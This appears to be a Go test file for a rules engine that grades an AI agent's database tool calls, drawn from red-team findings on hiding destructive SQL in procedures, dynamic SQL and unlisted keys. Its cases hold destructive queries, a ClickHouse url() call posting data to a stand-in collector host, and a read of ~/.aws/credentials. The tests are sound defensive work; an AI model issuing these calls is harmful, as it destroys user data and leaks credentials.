package rules

import "testing"

// The tool calls of the third red team's findings F7, F8 and F9
// (docs/security.md), each with its class's other spellings, and calls
// of the same shape that must not move.

// F7: SQL is found wherever the call carries it, and SQL that runs other
// SQL (a procedure, a function handed SQL text) is an unknown change
// unless it provably only reads.
func TestToolSQLWhereverCarried(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	q := func(sql string) string { return `{"sql":` + jsonString(sql) + `}` }
	checkTools(t, s, []toolCase{
		// A procedure's SQL is the database's own.
		{"mcp__db__query", q("CALL purge_all()"), Red, "sql-procedure"},
		{"mcp__mysql__execute_sql", `{"query":"call app.archive_orders(2024)"}`, Red, "sql-procedure"},
		{"mcp__db__query", q("SELECT 1; CALL p()"), Red, "sql-procedure"},
		{"mcp__neo4j__write_neo4j_cypher", `{"query":"CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})"}`, Red, "sql-procedure"},
		// SQL text a function runs.
		{"mcp__db__query", q("SELECT query_to_xml('delete from users returning 1', true, true, '')"), Red, "sql-dynamic"},
		{"mcp__db__query", q("SELECT query_to_xml($$DROP TABLE users$$, true, true, '')"), Red, "sql-dynamic"},
		{"mcp__db__query", q("SELECT query_to_xml(q, true, true, '') FROM saved_queries"), Red, "sql-dynamic"},
		{"mcp__db__query", q("SELECT dblink_exec('host=prod', 'DELETE FROM users')"), Red, "sql-remote"},
		{"mcp__db__query", q("DO $$ BEGIN EXECUTE 'DELETE FROM users'; END $$"), Red, "sql-dynamic"},
		{"mcp__clickhouse__run_query", `{"query":"SELECT * FROM url('https://collector.example/u', 'CSV', 'a String') SETTINGS http_method='POST'"}`, Red, "sql-remote"},
		// SQL under a key nobody listed, in a tool that does not say it
		// speaks SQL, or a query tool handed a change.
		{"mcp__api__query", `{"q":"DELETE FROM users"}`, Red, "sql-delete-all"},
		{"mcp__api__query", `{"q":"DELETE FROM users WHERE id = 4"}`, Red, "tool-destructive"},
		{"mcp__api__lookup", `{"filter":"DROP TABLE users"}`, Red, "sql-drop"},
		{"mcp__proc__interact_with_process", `{"pid":4,"input":"DELETE FROM users;"}`, Red, "sql-delete-all"},
		{"mcp__sqlite__read_query", `{"query":"DELETE FROM orders WHERE created_at < '2024-01-01'"}`, Red, "tool-destructive"},
		{"mcp__clickhouse__run_query", `{"query":"ALTER TABLE analytics.events DELETE WHERE ts < '2025-01-01'"}`, Red, "tool-destructive"},
		{"mcp__api__query", `{"q":"INSERT INTO users VALUES (1)"}`, Yellow, "tool-data-write"},
		{"mcp__db__query", q("UPDATE users SET plan = 'free' WHERE id = 2"), Yellow, "tool-data-write"},
		// A file a table function reads is judged as any read of it.
		{"mcp__clickhouse__run_chdb_select_query", `{"query":"SELECT * FROM file('/home/u/.aws/credentials', 'LineAsString')"}`, Red, ""},
		{"mcp__clickhouse__run_chdb_select_query", `{"query":"SELECT count() FROM file('data/events.parquet', Parquet)"}`, Green, "tool-read"},
		// Reads, SQL text that only reads, a procedure that describes,
		// and SQL stored as text, not run.
		{"mcp__db__query", q("SELECT query_to_xml('SELECT * FROM users', true, true, '')"), Green, "tool-read"},
		{"mcp__db__query", q("SELECT * FROM users WHERE id = 1"), Green, "tool-read"},
		{"mcp__neo4j__read_neo4j_cypher", `{"query":"CALL db.labels()"}`, Green, "tool-read"},
		{"mcp__api__search_code", `{"q":"delete button styles"}`, Green, "tool-read"},
		{"mcp__forge__create_or_update_file", `{"branch":"fix/x","path":"db/002.sql","content":"DELETE FROM sessions WHERE expired"}`, Yellow, ""},
	})
}
